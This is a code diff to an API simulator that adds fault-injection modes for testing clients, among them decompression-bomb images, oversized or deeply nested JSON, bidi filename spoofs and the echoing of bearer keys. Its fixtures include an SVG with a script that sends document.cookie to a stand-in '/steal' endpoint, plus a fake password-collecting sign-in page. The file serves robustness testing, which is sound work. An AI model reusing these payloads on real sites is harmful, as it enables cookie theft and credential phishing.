@@ -12,11 +12,12 @@ import math
 import re
 import time
 import uuid
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Iterable, Iterator, Mapping
 from dataclasses import dataclass
 from email.utils import formatdate
+from pathlib import Path
 from typing import Any, Literal
-from urllib.parse import unquote, urlsplit
+from urllib.parse import quote, quote_plus, unquote, urlsplit
 
 import anyio
 import anyio.to_thread
@@ -26,8 +27,9 @@ from starlette.datastructures import UploadFile
 from starlette.requests import Request
 from starlette.responses import FileResponse, JSONResponse, Response
 from starlette.routing import Route
-from starlette.types import Message
+from starlette.types import Message, Receive, Scope, Send
 
+from runapi_mcp.simulator import _png
 from runapi_mcp.simulator._models import Fault, LoggedRequest
 from runapi_mcp.simulator._state import Outcome, SimState, Task, UploadedFile, fingerprint, iso
 from runapi_mcp.simulator._tasks import ApiError, plan_task, validate_body
@@ -77,6 +79,117 @@ _HTML_PAGE = (
     "<center><h1>{status} {reason}</h1></center>\r\n<hr><center>{message}</center>\r\n"
     "</body>\r\n</html>\r\n"
 )
+# Bodies a `not_image` fault serves as a picture: what captive portals, CDNs and hostile hosts send.
+_NOT_IMAGE_BODIES: dict[str, Callable[[], bytes]] = {
+    "html": lambda: (
+        b"<!DOCTYPE html>\n<html><head><title>Sign in to continue</title></head>\n<body>"
+        b'<h1>Wi-Fi sign in</h1><form action="/login" method="post"><input name="user">'
+        b'<input name="password" type="password"></form></body></html>\n'
+    ),
+    "svg": lambda: (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
+        b'width="1024" height="1024" onload="alert(document.domain)">'
+        b"<script>fetch('http://127.0.0.1:1/steal?c='+document.cookie)</script>"
+        b'<rect width="100%" height="100%" fill="#e33"/></svg>\n'
+    ),
+    "text": lambda: b"403 Forbidden: hotlinking is not allowed\n",
+    "json": lambda: b'{"error":{"message":"image not found","code":"not_found"}}',
+    "empty": lambda: b"",
+    "truncated_png": lambda: _png.small_png()[:100],
+}
+_PICTURES: dict[str, Callable[[int, int], bytes]] = {"bomb": _png.bomb_png, "huge_image": _png.huge_png}
+PLANTED_STRINGS: dict[str, str] = {
+    "mixed": "lone \ud800 high, lone \udfff low, NUL \x00, \u202egnp.exe\u202c, BOM \ufeff, \uffff, bell \x07",
+    "high_surrogate": "\ud800",
+    "low_surrogate": "\udfff",
+    "nul": "before\x00after",
+    "bidi": "invoice_\u202efdp.exe\u202c \u2066isolate\u2069",
+    "huge": "A" * 1_000_000,
+}
+"""The strings an ``invalid_unicode`` fault plants, by ``body`` name."""
+_PAD = b"A" * 65536
+
+
+class JSONAnswer(JSONResponse):
+    """JSON written with ASCII escapes, as many servers do. That is what lets a planted lone surrogate
+    reach the wire (as the six characters ``\\ud800``): no UTF-8 encoder would write it."""
+
+    def render(self, content: Any) -> bytes:
+        return json.dumps(content, ensure_ascii=True, allow_nan=False, separators=(",", ":")).encode("ascii")
+
+
+class _Paced(Response):
+    """An answer whose body goes out piece by piece, ``pause`` seconds apart, until done or until the
+    client goes away. The disconnect is watched for here: a StreamingResponse only notices it on some ASGI
+    versions, and a trickle that outlived its client would keep a task (and its test) alive. Open ones
+    are counted (``SimState.open_streams``) so a test can check that its client hung up."""
+
+    def __init__(
+        self,
+        pieces: Iterable[bytes],
+        *,
+        status_code: int,
+        headers: Mapping[str, str],
+        pause: float,
+        state: SimState,
+    ) -> None:
+        self.pieces = pieces
+        self.pause = pause
+        self.state = state
+        self.status_code = status_code
+        self.background = None
+        self.init_headers(headers)
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        self.state.stream_opened()
+        try:
+            async with anyio.create_task_group() as group:
+                group.start_soon(self._watch, receive, group.cancel_scope)
+                await send({"type": "http.response.start", "status": self.status_code, "headers": self.raw_headers})
+                for i, piece in enumerate(self.pieces):
+                    if i:  # also with no pause: let other requests (and the disconnect watch) run
+                        await anyio.sleep(self.pause)
+                    await send({"type": "http.response.body", "body": piece, "more_body": True})
+                await send({"type": "http.response.body", "body": b"", "more_body": False})
+                group.cancel_scope.cancel()
+        except OSError:  # what ASGI 2.4 servers raise on a send after the client left
+            pass
+        finally:
+            self.state.stream_closed()
+
+    @staticmethod
+    async def _watch(receive: Receive, scope: anyio.CancelScope) -> None:
+        while (await receive())["type"] != "http.disconnect":
+            pass
+        scope.cancel()
+
+
+def _padded(answer: bytes, total: int) -> Iterator[bytes]:
+    """``answer`` (a JSON object) with a ``padding`` member first, ``total`` bytes in all, in pieces:
+    50 MB go out without ever being in memory."""
+    rest = answer[1:]
+    rest = b'"' + rest if rest.strip() == b"}" else b'",' + rest
+    head = b'{"padding":"'
+    left = max(0, total - len(head) - len(rest))
+    yield head
+    while left > 0:
+        piece = _PAD[: min(left, len(_PAD))]
+        left -= len(piece)
+        yield piece
+    yield rest
+
+
+def _nested(answer: bytes, levels: int) -> bytes:
+    """``answer`` (a JSON object) with a ``detail`` member nested ``levels`` arrays deep first."""
+    rest = answer[1:]
+    if rest.strip() != b"}":
+        rest = b"," + rest
+    return b'{"detail":' + b"[" * levels + b"]" * levels + rest
+
+
+def _percent_all(text: str) -> str:
+    """Every byte percent-encoded: a key no longer matches itself as a plain substring."""
+    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
 
 
 @dataclass
@@ -85,6 +198,9 @@ class _Ctx:
     authorized: bool
     sent_auth: bool
     idempotency_key: str | None
+    key: str | None = None
+    """The bearer token the request carried: held for this request only, never logged (``echo_key``
+    faults plant it in the answer)."""
     json: dict[str, Any] | None = None
 
 
@@ -98,8 +214,40 @@ def _seconds(value: float) -> str:
     return f"{value:.3f}".rstrip("0").rstrip(".")
 
 
-def error_response(err: ApiError) -> JSONResponse:
-    return JSONResponse(err.body(), status_code=err.status, headers=err.headers)
+def _bearer(header: str | None) -> str | None:
+    """The token of an ``Authorization: Bearer`` header, or None."""
+    if not header:
+        return None
+    scheme, _, token = header.strip().partition(" ")
+    token = token.strip()
+    if scheme.lower() != "bearer" or not token:
+        return None
+    return token
+
+
+def _planted(fault: Fault, key: str | None) -> str:
+    """The string an ``invalid_unicode`` or ``echo_key`` fault plants (``key``: the caller's bearer key)."""
+    if fault.kind == "invalid_unicode":
+        return fault.message if fault.message is not None else PLANTED_STRINGS[fault.body or "mixed"]
+    key = key or ""
+    if fault.where == "message":
+        return f"Incorrect API key provided: {key}. Find your API key at https://runapi.ai/dashboard/keys"
+    if fault.where == "error":
+        return f"Upstream provider rejected the credentials (Authorization: Bearer {key})"
+    return key
+
+
+def _mark_url(url: str, fault: Fault, key: str | None) -> str:
+    """An image URL with the fault's string in its query (where="image_url")."""
+    if fault.kind == "echo_key":
+        query = f"sig={key or ''}&token={_percent_all(key or '')}"
+    else:
+        query = "u=" + _planted(fault, key)
+    return url + ("&" if "?" in url else "?") + query
+
+
+def error_response(err: ApiError) -> JSONAnswer:
+    return JSONAnswer(err.body(), status_code=err.status, headers=err.headers)
 
 
 def base_url(request: Request) -> str:
@@ -194,32 +342,29 @@ class SimulatorApp:
                 return error_response(err)
         arrived = time.monotonic()
         header = request.headers.get("authorization")
+        key = _bearer(header)
         ctx = _Ctx(
             request_id="req_" + uuid.uuid4().hex[:24],
-            authorized=self._key_ok(header),
+            authorized=self._key_ok(key),
             sent_auth=header is not None,
             idempotency_key=request.headers.get("idempotency-key"),
+            key=key,
         )
         fault = self.state.take_fault(request.method, path)
         response: Response | None = None
         if fault is not None:
             if fault.kind == "slow":
                 await anyio.sleep(fault.delay)
-            elif fault.kind in ("status", "html", "text", "expired_url"):
-                response = self._fault_response(fault, ctx)
+            else:
+                response = await self._fault_answer(fault, request, ctx)
         if response is None:
             response = await self._handle(request, ctx)
-            if fault is not None and fault.kind == "lose_response":
-                response = error_response(
-                    ApiError(
-                        fault.http_status,
-                        _ERROR_CODES.get(fault.http_status, "error"),
-                        fault.message or "upstream connection reset before the response was sent",
-                    )
-                )
-            elif fault is not None and fault.kind == "malformed_json":
-                response = self._malformed(response)
-        response.headers["x-request-id"] = ctx.request_id
+            if fault is not None:
+                response = await self._reshape(fault, request, response)
+        echo = fault is not None and fault.kind == "echo_key" and fault.where == "request_id"
+        # The log keeps the real request id below: an echoed key must never reach the log.
+        response.headers["x-request-id"] = (ctx.key or "") if echo else ctx.request_id
+        query, carried_key = self.state.redact(request.url.query)
         self.state.record(
             LoggedRequest(
                 method=request.method,
@@ -232,17 +377,14 @@ class SimulatorApp:
                 sent_auth=ctx.sent_auth,
                 fault=fault.kind if fault is not None else None,
                 request_id=ctx.request_id,
-                query=request.url.query,
+                query=query,
+                carried_key=carried_key,
             )
         )
         return response
 
-    def _key_ok(self, header: str | None) -> bool:
-        if not header:
-            return False
-        scheme, _, token = header.strip().partition(" ")
-        token = token.strip()
-        if scheme.lower() != "bearer" or not token:
+    def _key_ok(self, token: str | None) -> bool:
+        if token is None:
             return False
         expected = self.state.config.api_key
         if expected is None:
@@ -278,6 +420,84 @@ class SimulatorApp:
             logger.exception("simulator error on %s %s", request.method, path)
             return error_response(ApiError(500, "internal_error", "Internal server error"))
 
+    async def _fault_answer(self, fault: Fault, request: Request, ctx: _Ctx) -> Response | None:
+        """The answer a fault gives instead of handling the request, or None to handle it."""
+        kind = fault.kind
+        if kind in ("status", "html", "text", "expired_url", "invalid_unicode"):
+            return self._fault_response(fault, ctx)
+        if kind == "echo_key":
+            # where="request_id" answers normally (with the key as request id) unless given a status.
+            return self._fault_response(fault, ctx) if fault.where == "message" or fault.status else None
+        content_type = fault.content_type or "image/png"
+        if kind == "not_image":
+            body = _NOT_IMAGE_BODIES[fault.body or "html"]()
+            return Response(body, status_code=fault.http_status, media_type=content_type)
+        if kind in _PICTURES:
+            assert fault.width is not None and fault.height is not None  # Fault fills them in
+            # Built once per process, but the first build of a huge picture takes a while: not on the loop.
+            data = await anyio.to_thread.run_sync(_PICTURES[kind], fault.width, fault.height)
+            return Response(data, status_code=fault.http_status, media_type=content_type)
+        if kind == "redirect":
+            location = fault.location
+            if location is None:  # back to itself, byte for byte: a loop
+                location = request.scope["raw_path"].decode("latin-1")
+                if request.url.query:
+                    location += "?" + request.url.query
+            return Response(b"", status_code=fault.http_status, headers={"Location": location})
+        return None
+
+    async def _reshape(self, fault: Fault, request: Request, response: Response) -> Response:
+        """The handled answer, as a fault that lets the request through reshapes it."""
+        if fault.kind == "lose_response":
+            return error_response(
+                ApiError(
+                    fault.http_status,
+                    _ERROR_CODES.get(fault.http_status, "error"),
+                    fault.message or "upstream connection reset before the response was sent",
+                )
+            )
+        if fault.kind == "malformed_json":
+            return self._malformed(response)
+        if fault.kind == "trickle":
+            return await self._trickle(fault, response)
+        if fault.kind == "odd_json":
+            return self._odd_json(fault, response)
+        return response
+
+    async def _trickle(self, fault: Fault, response: Response) -> Response:
+        if isinstance(response, FileResponse):
+            body = await anyio.to_thread.run_sync(Path(response.path).read_bytes)
+        else:
+            body = bytes(response.body)
+        headers = {k: v for k, v in response.headers.items() if k != "content-length"}
+        headers["content-length"] = str(len(body))  # the real length: the client knows what is coming
+        step = fault.chunk or 1
+        return _Paced(
+            (body[i : i + step] for i in range(0, len(body), step)),
+            status_code=response.status_code,
+            headers=headers,
+            pause=fault.delay,
+            state=self.state,
+        )
+
+    def _odd_json(self, fault: Fault, response: Response) -> Response:
+        answer = getattr(response, "body", None)
+        if not isinstance(answer, bytes) or not answer.startswith(b"{"):
+            return response  # not a JSON object (another fault's answer): nothing to reshape
+        headers = {k: v for k, v in response.headers.items() if k not in ("content-length", "content-type")}
+        headers["content-type"] = "application/json"
+        if fault.body == "huge":
+            # No Content-Length: the client cannot refuse it up front, only by counting as it reads.
+            return _Paced(
+                _padded(answer, fault.size or 0),
+                status_code=response.status_code,
+                headers=headers,
+                pause=0,
+                state=self.state,
+            )
+        odd = _nested(answer, fault.size or 0) if fault.body == "deep" else b"[" + answer + b"]"
+        return Response(odd, status_code=response.status_code, headers=headers)
+
     def _fault_response(self, fault: Fault, ctx: _Ctx) -> Response:
         status = fault.http_status
         headers: dict[str, str] = {}
@@ -288,13 +508,17 @@ class SimulatorApp:
                 headers["Retry-After"] = _seconds(fault.retry_after)
         reason = _REASONS.get(status, "Error")
         if fault.kind == "html":
-            body = _HTML_PAGE.format(status=status, reason=reason, message=fault.message or "nginx")
-            return Response(body, status_code=status, media_type="text/html", headers=headers)
+            page = _HTML_PAGE.format(status=status, reason=reason, message=fault.message or "nginx")
+            # surrogatepass: a lone surrogate in `message` goes out as the invalid UTF-8 it makes.
+            encoded = page.encode("utf-8", "surrogatepass")
+            return Response(encoded, status_code=status, media_type="text/html", headers=headers)
         if fault.kind == "text":
             text = fault.message or (
                 "upstream connect error or disconnect/reset before headers. reset reason: connection failure"
             )
-            return Response(text, status_code=status, media_type="text/plain", headers=headers)
+            return Response(
+                text.encode("utf-8", "surrogatepass"), status_code=status, media_type="text/plain", headers=headers
+            )
         if fault.kind == "expired_url":
             now = time.time()
             body = _EXPIRED_XML.format(
@@ -303,10 +527,13 @@ class SimulatorApp:
                 rid=ctx.request_id,
             )
             return Response(body, status_code=status, media_type="application/xml", headers=headers)
-        message = fault.message or {
-            429: "Rate limit exceeded, please retry later",
-            503: "Service temporarily unavailable",
-        }.get(status, reason)
+        if fault.kind == "invalid_unicode" or (fault.kind == "echo_key" and fault.where == "message"):
+            message = _planted(fault, ctx.key)
+        else:
+            message = fault.message or {
+                429: "Rate limit exceeded, please retry later",
+                503: "Service temporarily unavailable",
+            }.get(status, reason)
         err = ApiError(status, _ERROR_CODES.get(status, "error"), message, headers=headers)
         return error_response(err)
 
@@ -364,18 +591,25 @@ class SimulatorApp:
 
     def _created(self, task: Task, *, replayed: bool) -> Response:
         inner: dict[str, Any] = {"status": "pending", "model": task.model, "created_at": iso(task.created_at)}
+        task_id = task.id
+        for fault in task.faults:
+            if fault.kind == "invalid_unicode" and fault.where == "id":
+                task_id = _planted(fault, None)
         style = self.state.config.id_style
         if style == "task_id":
-            answer: dict[str, Any] = {"task_id": task.id, **inner}
+            answer: dict[str, Any] = {"task_id": task_id, **inner}
         elif style == "data":
-            answer = {"data": {"id": task.id, **inner}}
+            answer = {"data": {"id": task_id, **inner}}
         else:
-            answer = {"id": task.id, **inner}
+            answer = {"id": task_id, **inner}
         headers = {"Idempotent-Replayed": "true"} if replayed else {}
-        return JSONResponse(answer, headers=headers)
+        return JSONAnswer(answer, headers=headers)
 
-    def status_answer(self, task: Task, base: str, now: float | None = None) -> tuple[dict[str, Any], bool]:
-        """A task's status answer, and whether it is still running."""
+    def status_answer(
+        self, task: Task, base: str, now: float | None = None, key: str | None = None
+    ) -> tuple[dict[str, Any], bool]:
+        """A task's status answer, and whether it is still running (``key``: the poller's bearer key,
+        for ``echo_key`` faults)."""
         phase, progress = task.phase(time.monotonic() if now is None else now)
         running = phase in ("pending", "processing")
         status: str = phase
@@ -400,7 +634,48 @@ class SimulatorApp:
             ]
         elif phase == "failed":
             answer["error"] = task.error
+        if task.faults:
+            self._plant(answer, task, phase, base, key)
         return answer, running
+
+    def _plant(self, answer: dict[str, Any], task: Task, phase: str, base: str, key: str | None) -> None:
+        """Shape a status answer as the task's faults say (see ``Fault``)."""
+        # The listing first, so that marks on image URLs land on the listed ones.
+        for fault in sorted(task.faults, key=lambda f: f.kind != "image_urls"):
+            where = fault.where
+            if fault.kind == "image_urls":
+                if phase == "completed":
+                    answer["images"] = self._listed_images(fault, task, base)
+            elif where == "error" and phase == "failed":
+                answer["error"] = _planted(fault, key)
+            elif where == "status" and phase in ("completed", "failed"):
+                answer["status"] = _planted(fault, key)
+            elif where == "id":
+                answer["id"] = _planted(fault, key)
+                if "task_id" in answer:
+                    answer["task_id"] = answer["id"]
+            elif where == "image_url" and phase == "completed":
+                if fault.kind == "echo_key" and key:
+                    self.state.key_planted((key, _percent_all(key), quote(key, safe=""), quote_plus(key)))
+                for image in answer["images"]:
+                    image["url"] = _mark_url(image["url"], fault, key)
+                    image["origin_url"] = _mark_url(image["origin_url"], fault, key)
+
+    @staticmethod
+    def _listed_images(fault: Fault, task: Task, base: str) -> list[dict[str, Any]]:
+        outputs = task.plan.outputs
+        first = outputs[0] if outputs else None
+        urls = fault.urls
+        if urls is None:
+            urls = [f"{base}/images/{task.id}/{first.filename}"] if first is not None else []
+        count = len(urls) if fault.count is None else fault.count
+        listed = [urls[i % len(urls)] for i in range(count)] if urls else []
+        width, height = (first.width, first.height) if first is not None else (1024, 1024)
+        media_type = first.media_type if first is not None else "image/png"
+        return [
+            {"url": url, "origin_url": url, "width": width, "height": height, "content_type": media_type}
+            for url in listed
+        ]
 
     async def status(
         self, request: Request, ctx: _Ctx, service: str, task_id: str, endpoint: str | None = None
@@ -408,12 +683,12 @@ class SimulatorApp:
         task = self.state.get_task(task_id)
         if task is None or task.service != service or (endpoint is not None and task.endpoint != endpoint):
             raise ApiError(404, "not_found", f"Task {task_id} not found")
-        answer, running = self.status_answer(task, base_url(request))
+        answer, running = self.status_answer(task, base_url(request), key=ctx.key)
         headers: dict[str, str] = {}
         retry_after = self.state.config.status_retry_after
         if running and retry_after is not None:
             headers["Retry-After"] = _seconds(retry_after)
-        return JSONResponse(answer, headers=headers)
+        return JSONAnswer(answer, headers=headers)
 
     def _schedule_callback(self, task: Task, url: str, base: str) -> None:
         try:
@@ -437,7 +712,9 @@ class SimulatorApp:
             await anyio.sleep(wait)
         try:
             async with httpx.AsyncClient(timeout=10.0) as client:
-                await client.post(url, json=answer)
+                # ASCII escapes, as in every answer: a planted lone surrogate must not break the call.
+                body = json.dumps(answer, ensure_ascii=True).encode("ascii")
+                await client.post(url, content=body, headers={"Content-Type": "application/json"})
         except httpx.HTTPError as exc:
             logger.info("callback to %s failed: %s", url, exc)
 
@@ -494,7 +771,7 @@ class SimulatorApp:
         if not data:
             raise ApiError(422, "validation_error", "'file' is empty", field="file")
         upload = await anyio.to_thread.run_sync(self.state.store_file, data, filename, mime)
-        return JSONResponse(self._file_answer(upload, base_url(request)))
+        return JSONAnswer(self._file_answer(upload, base_url(request)))
 
     @staticmethod
     async def _multipart(request: Request, raw: bytes) -> tuple[bytes, str | None, str | None]:
@@ -623,10 +900,10 @@ class SimulatorApp:
             }
 
     async def balance(self, request: Request, ctx: _Ctx) -> Response:
-        return JSONResponse(self._balance())
+        return JSONAnswer(self._balance())
 
     async def me(self, request: Request, ctx: _Ctx) -> Response:
-        return JSONResponse(
+        return JSONAnswer(
             {
                 "id": "usr_simulator",
                 "name": "RunAPI Simulator",
@@ -650,7 +927,7 @@ class SimulatorApp:
                         "price_cents": {"1k": 3, "2k": 6, "4k": 12} if by_res else {"default": 4},
                     }
                 )
-        return JSONResponse({"price_schedules": rows})
+        return JSONAnswer({"price_schedules": rows})
 
     async def price_quote(self, request: Request, ctx: _Ctx) -> Response:
         body = _parse_json(await _read_capped(request, MAX_JSON_BODY))
@@ -663,7 +940,7 @@ class SimulatorApp:
         fields = {k: v for k, v in body.items() if k not in ("service", "action")}
         spec = validate_body(action, fields)
         plan = plan_task(action, spec, fields, resolve_local=lambda url: None, size_of=lambda ref: ref.size)
-        return JSONResponse(
+        return JSONAnswer(
             {
                 "price_quote": {
                     "reservation_amount_cents": plan.price_cents,
@@ -687,10 +964,10 @@ class SimulatorApp:
             }
             for slug in catalog.model_names
         ]
-        return JSONResponse({"object": "list", "data": data})
+        return JSONAnswer({"object": "list", "data": data})
 
     async def index(self, request: Request, ctx: _Ctx) -> Response:
-        return JSONResponse(
+        return JSONAnswer(
             {
                 "name": "RunAPI simulator",
                 "base_url": base_url(request),
@@ -706,10 +983,10 @@ class SimulatorApp:
         method = request.method
         if path == "/_sim/faults":
             if method == "GET":
-                return JSONResponse({"faults": [f.to_dict() for f in state.faults()]})
+                return JSONAnswer({"faults": [f.to_dict() for f in state.faults()]})
             if method == "DELETE":
                 state.clear_faults()
-                return JSONResponse({"faults": []})
+                return JSONAnswer({"faults": []})
             if method == "POST":
                 body = _parse_json(await request.body())
                 items = body["faults"] if isinstance(body.get("faults"), list) else [body]
@@ -719,16 +996,16 @@ class SimulatorApp:
                     raise ApiError(422, "validation_error", str(exc)) from None
                 for fault in faults:
                     state.inject(fault)
-                return JSONResponse({"faults": [f.to_dict() for f in state.faults()]}, status_code=201)
+                return JSONAnswer({"faults": [f.to_dict() for f in state.faults()]}, status_code=201)
         elif path == "/_sim/requests":
             if method == "GET":
-                return JSONResponse({"requests": [r.to_dict() for r in state.requests()]})
+                return JSONAnswer({"requests": [r.to_dict() for r in state.requests()]})
             if method == "DELETE":
                 state.clear_log()
-                return JSONResponse({"requests": []})
+                return JSONAnswer({"requests": []})
         elif path == "/_sim/state" and method == "GET":
             with state.lock:
-                return JSONResponse(
+                return JSONAnswer(
                     {
                         "tasks_created": state.tasks_created,
                         "balance_cents": state.balance_cents,
@@ -747,7 +1024,7 @@ class SimulatorApp:
                     422, "validation_error", "'balance_cents' must be an integer", field="balance_cents"
                 )
             state.set_balance(cents)
-            return JSONResponse(self._balance())
+            return JSONAnswer(self._balance())
         elif path == "/_sim/outcome" and method == "POST":
             body = _parse_json(await request.body())
             task_id = body.get("task_id")
@@ -767,7 +1044,7 @@ class SimulatorApp:
                 state.set_outcome(task_id if isinstance(task_id, str) else None, outcome)
             except KeyError:
                 raise ApiError(404, "not_found", f"Task {task_id} not found") from None
-            return JSONResponse({"ok": True})
+            return JSONAnswer({"ok": True})
         raise ApiError(404, "not_found", f"No control route {method} {request.url.path}")
 
 
